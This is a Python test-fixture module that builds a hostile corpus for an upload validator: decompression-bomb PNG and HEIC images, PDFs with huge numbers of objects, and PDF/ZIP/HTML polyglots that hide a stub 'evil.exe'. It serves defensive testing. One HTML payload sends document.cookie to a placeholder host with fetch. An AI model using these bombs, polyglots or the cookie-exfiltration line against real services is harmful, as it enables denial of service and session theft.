"""The hostile corpus, generated (no binary files in the repository): small files that cost a lot to open,
and files that hide an archive behind a document.

Every maker is deterministic. Large images are written row by row (PNG) or from a flat colour (HEIC), so
making them never holds their decoded pixels; the benchmark ``bench/bench_hostile.py`` and the tests use
the same makers.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

# -- images ----------------------------------------------------------------------------------------


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def png_rows(width: int, height: int, *, color_type: int, bit_depth: int, row: Callable[[int], bytes]) -> bytes:
    """A PNG written row by row (``row(y)`` gives the raw samples of line y, without the filter byte)."""
    compressor = zlib.compressobj(9)
    parts = []
    for y in range(height):
        parts.append(compressor.compress(b"\x00" + row(y)))
    parts.append(compressor.flush())
    header = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", b"".join(parts)) + _chunk(b"IEND", b"")


def rgba_png(side: int = 7070) -> bytes:
    """A ~200 KB RGBA PNG of ``side``² pixels (7070² is 50 megapixels, 200 MB decoded), half transparent."""
    line = bytes([30, 60, 90, 128]) * side
    return png_rows(side, side, color_type=6, bit_depth=8, row=lambda y: line)


def png16(width: int = 6000, height: int = 6000) -> bytes:
    """A 16-bit RGB PNG (6000² is 36 megapixels, 216 MB of samples)."""
    line = bytes([0x80, 0x00, 0x40, 0x00, 0x20, 0x00]) * width
    return png_rows(width, height, color_type=2, bit_depth=16, row=lambda y: line)


def small_png16(width: int = 1200, height: int = 1600) -> bytes:
    """A 16-bit grey PNG an ordinary scanner could make: it must be converted, not refused."""
    rnd = random.Random(16)
    lines = [bytes(rnd.getrandbits(8) | 0x80 for _ in range(width * 2)) for _ in range(8)]
    return png_rows(width, height, color_type=0, bit_depth=16, row=lambda y: lines[y % 8])


def large_heic(side: int = 7000) -> bytes:
    """A flat-colour HEIC of ``side``² pixels (7000² is 49 megapixels)."""
    import pillow_heif

    image = Image.new("RGB", (side, side), (200, 190, 180))
    buffer = io.BytesIO()
    pillow_heif.from_pillow(image).save(buffer, quality=10)
    image.close()
    return buffer.getvalue()


# -- PDFs ------------------------------------------------------------------------------------------


def _pdf(objects: list[bytes], *, xref: bool = True) -> bytes:
    """A PDF with ``objects`` numbered from 1 (object 1 is the catalog), with or without an xref table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    start = out.tell()
    if xref:
        out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
        out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1))
    if xref:
        out.write(b"startxref\n%d\n" % start)
    out.write(b"%%EOF\n")
    return out.getvalue()


def _vector_content(rnd: random.Random, width: float, height: float, strokes: int) -> bytes:
    ops = [b"0.3 w"]
    for _ in range(strokes):
        x1, y1, x2, y2 = (rnd.uniform(0, width), rnd.uniform(0, height), rnd.uniform(0, width),
                          rnd.uniform(0, height))
        ops.append(b"%.1f %.1f m %.1f %.1f l S" % (x1, y1, x2, y2))
    return b"\n".join(ops)


def vector_pdf(pages: int, size: tuple[float, float], strokes: int, seed: int = 7) -> bytes:
    """``pages`` pages of ``size`` points, each with its own ``strokes`` random lines (compressed)."""
    rnd = random.Random(seed)
    kids = " ".join(f"{3 + 2 * i} 0 R" for i in range(pages)).encode()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages]
    for i in range(pages):
        content = zlib.compress(_vector_content(rnd, size[0], size[1], strokes), 9)
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %.0f %.0f] /Contents %d 0 R >>"
                       % (size[0], size[1], 4 + 2 * i))
        objects.append(b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content
                       + b"\nendstream")
    return _pdf(objects)


def a4_vector_pdf(pages: int = 300) -> bytes:
    """300 A4 pages of vector drawing, over the 1024 KB limit: can only fit by rasterising."""
    return vector_pdf(pages, (595, 842), strokes=600)


def large_page_vector_pdf(pages: int = 10) -> bytes:
    """Ten 3000 × 3000 pt pages (more than 1 m a side) of vector drawing, about 1.2 MB."""
    return vector_pdf(pages, (3000, 3000), strokes=10_000)


def many_objects_pdf(count: int = 1_000_000) -> bytes:
    """One page and ``count`` tiny objects nothing points to, packed in an object stream (a few MB)."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate((b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                                   b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"), start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    first = 5
    header = b" ".join(b"%d %d" % (first + i, 2 * i) for i in range(count)) + b"\n"
    packed = zlib.compress(header + b"0 " * count, 6)
    offsets.append(out.tell())
    out.write(b"4 0 obj\n<< /Type /ObjStm /N %d /First %d /Length %d /Filter /FlateDecode >>\nstream\n"
              % (count, len(header), len(packed)) + packed + b"\nendstream\nendobj\n")
    xref_number = first + count
    xref_offset = out.tell()
    rows = [struct.pack(">BII", 0, 0, 65535)]
    rows += [struct.pack(">BII", 1, offset, 0) for offset in offsets]
    rows += [struct.pack(">BII", 2, 4, i) for i in range(count)]
    rows.append(struct.pack(">BII", 1, xref_offset, 0))
    table = zlib.compress(b"".join(rows), 6)
    out.write(b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 4] /Root 1 0 R /Length %d /Filter /FlateDecode >>\n"
              b"stream\n" % (xref_number, xref_number + 1, len(table)) + table + b"\nendstream\nendobj\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref_offset)
    return out.getvalue()


def loose_objects_pdf(count: int = 60_000) -> bytes:
    """One page and ``count`` tiny objects without an xref table (readers rebuild it by scanning)."""
    head = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]
    return _pdf(head + [b"0"] * (count - len(head)), xref=False)


def small_pdf() -> bytes:
    """A valid one-page PDF with a line of text (the document hidden in the polyglots)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
               b"/Resources << /Font << /F1 5 0 R >> >> >>"]
    text = b"BT /F1 24 Tf 72 720 Td (Passport) Tj ET"
    objects.append(b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream")
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    return _pdf(objects)


# -- disguised archives ------------------------------------------------------------------------------

EVIL = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode."


def _zip(entries: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_STORED) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_with_pdf_first() -> bytes:
    """A stored ZIP whose first entry is a PDF (so ``%PDF-`` sits at byte 30+), with evil.exe after it."""
    return _zip([("a.pdf", small_pdf()), ("evil.exe", EVIL)])


def pdf_with_zip_appended() -> bytes:
    """A valid PDF followed by a ZIP holding evil.exe (readers ignore what follows ``%%EOF``)."""
    return small_pdf() + _zip([("evil.exe", EVIL)])


def html_then_pdf() -> bytes:
    """A web page with a script, then a PDF (within the first 1024 bytes, where readers look for it)."""
    return b"<html><script>fetch('https://example.invalid/'+document.cookie)</script></html>\n" + small_pdf()


def zip_named_pdf() -> bytes:
    """A plain ZIP archive (to be sent with a .pdf name)."""
    return _zip([("evil.exe", EVIL), ("readme.txt", b"open evil.exe")])


def heic_declaring(side: int = 7000) -> bytes:
    """A tiny HEIC whose image header (``ispe``) declares ``side``² pixels: what the size check sees of a
    large HEIC, made in milliseconds (encoding a real 7000² HEIC takes half a minute; the benchmark does)."""
    import pillow_heif

    buffer = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", (64, 64), (200, 190, 180))).save(buffer, quality=10)
    data = bytearray(buffer.getvalue())
    at = data.find(b"ispe")
    while at >= 0:
        struct.pack_into(">II", data, at + 8, side, side)  # after the box type: version/flags, width, height
        at = data.find(b"ispe", at + 4)
    return bytes(data)


HOSTILE: dict[str, Callable[[], bytes]] = {
    "rgba-7070.png": rgba_png,
    "rgb16-6000.png": png16,
    "million-objects.pdf": many_objects_pdf,
    "loose-60k-objects.pdf": loose_objects_pdf,
    "a4-vector-300-pages.pdf": a4_vector_pdf,
    "3000pt-vector-10-pages.pdf": large_page_vector_pdf,
    "heic-7000.heic": large_heic,
    "zip-with-pdf-first.pdf": zip_with_pdf_first,
    "pdf-with-zip-appended.pdf": pdf_with_zip_appended,
    "html-script-then-pdf.pdf": html_then_pdf,
    "zip-renamed.pdf": zip_named_pdf,
}
"""The hostile corpus of issue 17, by the name it is sent under (the benchmark runs all of it)."""
